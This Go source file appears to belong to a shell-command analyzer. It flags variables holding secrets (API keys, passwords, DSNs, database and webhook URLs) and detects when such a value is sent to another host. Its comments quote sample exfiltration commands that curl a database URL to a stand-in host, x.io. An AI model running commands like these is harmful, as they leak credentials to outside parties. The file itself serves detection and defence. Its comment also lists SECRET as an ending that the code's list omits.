package patterns

import "strings"

// Secret names by their endings (fx53n, rt50 A10). A vendor's key is most
// often named for the vendor and nothing else ($STRIPE_KEY, $MAILGUN_KEY,
// $DB_PASS, $SENTRY_DSN): a name whose last word is KEY, PASS, PWD, DSN or
// SECRET holds a secret, bar the keys that name no secret (a cache's,
// a sort's, a partition's or an object's key, a public or publishable
// key, a site key). Secrets that are addresses ($DATABASE_URL,
// $REDIS_URL, $SLACK_WEBHOOK_URL, $SENTRY_DSN: the URL holds the
// password or is the credential) are their everyday selves as the
// address a client connects to (`psql "$DATABASE_URL"`, `curl
// "$SLACK_WEBHOOK_URL" -d @msg.json`), and are sent when they stand in
// a request's body, header or query to another host (`curl -d
// "$DATABASE_URL" https://x.io`, `curl "https://x.io/?d=$DATABASE_URL"`):
// addressSecretSent.

// secretEndings are the last words of a variable's name that say it holds
// a secret.
var secretEndings = []string{"KEY", "PASS", "PWD", "DSN"}

// notSecretKeys are the words before a final KEY that name a key which is
// no secret.
var notSecretKeys = []string{"CACHE", "SORT", "PARTITION", "PRIMARY", "HASH", "RANGE", "OBJECT", "S3",
	"IDEMPOTENCY", "PUBLIC", "PUBLISHABLE", "SITE", "LOOKUP", "ROUTING", "DEDUP", "FOREIGN", "GROUP", "ID"}

// secretEnding reports whether a variable's name ends in a word of
// secretEndings after an underscore (STRIPE_KEY, DB_PASS; not KEY, PWD,
// OLDPWD, CACHE_KEY).
func secretEnding(name string) bool {
	up := strings.ToUpper(name)
	i := strings.LastIndexByte(up, '_')
	if i <= 0 {
		return false
	}
	last, before := up[i+1:], up[:i]
	for _, e := range secretEndings {
		if last != e {
			continue
		}
		if e != "KEY" {
			return true
		}
		if j := strings.LastIndexByte(before, '_'); j >= 0 {
			before = before[j+1:]
		}
		for _, n := range notSecretKeys {
			if before == n {
				return false
			}
		}
		return true
	}
	return false
}

// addressSecretName reports whether a variable's name says it holds an
// address whose text is a secret: a database's or a queue's URL (its
// password inside), a DSN, a webhook's URL, a connection string.
func addressSecretName(name string) bool {
	up := strings.ToUpper(name)
	if strings.HasSuffix(up, "DSN") || strings.Contains(up, "WEBHOOK") || strings.Contains(up, "CONNECTION_STRING") {
		return true
	}
	for _, s := range []string{"DATABASE", "DB", "POSTGRES", "PG", "MYSQL", "MONGO", "MONGODB", "REDIS", "AMQP", "RABBITMQ", "BROKER"} {
		if up == s+"_URL" || up == s+"_URI" || strings.HasSuffix(up, "_"+s+"_URL") || strings.HasSuffix(up, "_"+s+"_URI") {
			return true
		}
	}
	return false
}

// addressSecretSent reports whether the address secret v, read in word w,
// is sent rather than connected to: w holds more than the variable at its
// start (a body "k=$V", a query "https://x.io/?d=$V"), or the part names
// a URL in another word (`curl -d "$V" https://x.io`).
func addressSecretSent(w *Word, v string, ctx *Context) bool {
	first := -1
	for i, s := range w.Segs {
		if s.Kind == SegLit && s.Text == "" {
			continue
		}
		first = i
		break
	}
	if first < 0 || w.Segs[first].Kind != SegParam || w.Segs[first].Text != v {
		return true
	}
	p := ctx.wordPart(w)
	if p == nil {
		return false
	}
	for _, r := range ctx.readArgs(p) {
		for _, o := range r.Operands {
			x := &p.Words[o]
			if x.Span == w.Span {
				continue
			}
			if t, ok := knownHostText(x); !ok || strings.Contains(t, "://") {
				return true // another address, or a word that might be one
			}
		}
	}
	return false
}
